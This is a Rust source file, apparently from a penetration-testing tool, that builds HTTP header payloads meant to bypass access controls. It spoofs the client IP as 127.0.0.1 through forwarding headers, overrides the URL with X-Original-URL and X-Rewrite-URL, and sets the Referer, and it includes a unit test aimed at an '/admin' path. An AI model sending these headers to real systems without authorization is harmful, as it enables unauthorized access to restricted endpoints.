#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HeaderPayload {
    pub name: &'static str,
    pub value: String,
}

impl HeaderPayload {
    pub fn as_header(&self) -> (String, String) {
        (self.name.to_string(), self.value.clone())
    }
}

pub struct HeaderFuzzer;

impl HeaderFuzzer {
    const URL_OVERRIDE_HEADERS: &'static [&'static str] = &["X-Original-URL", "X-Rewrite-URL"];

    const IP_SPOOF_HEADERS: &'static [(&'static str, &'static str)] = &[
        ("X-Custom-IP-Authorization", "127.0.0.1"),
        ("X-Forwarded-For", "127.0.0.1"),
        ("X-Forwarded-Host", "127.0.0.1"),
    ];

    const REFERER: &'static str = "Referer";

    pub fn get_bypass_payloads(url: &str) -> Vec<HeaderPayload> {
        let mut all = Vec::new();

        all.extend(Self::URL_OVERRIDE_HEADERS.iter().map(|&name| HeaderPayload {
            name,
            value: url.to_string(),
        }));

        all.extend(Self::IP_SPOOF_HEADERS.iter().map(|&(name, value)| HeaderPayload {
            name,
            value: value.to_string(),
        }));

        all.push(HeaderPayload {
            name: Self::REFERER,
            value: url.to_string(),
        });

        all
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_payload_order_and_values() {
        let url = "http://example.test/admin";
        let payloads = HeaderFuzzer::get_bypass_payloads(url);
        let names: Vec<_> = payloads.iter().map(|p| p.name).collect();
        assert_eq!(
            names,
            vec![
                "X-Original-URL",
                "X-Rewrite-URL",
                "X-Custom-IP-Authorization",
                "X-Forwarded-For",
                "X-Forwarded-Host",
                "Referer",
            ]
        );
        assert_eq!(payloads[0].value, url);
        assert_eq!(payloads[3].value, "127.0.0.1");
        assert_eq!(payloads[5].value, url);
    }
}
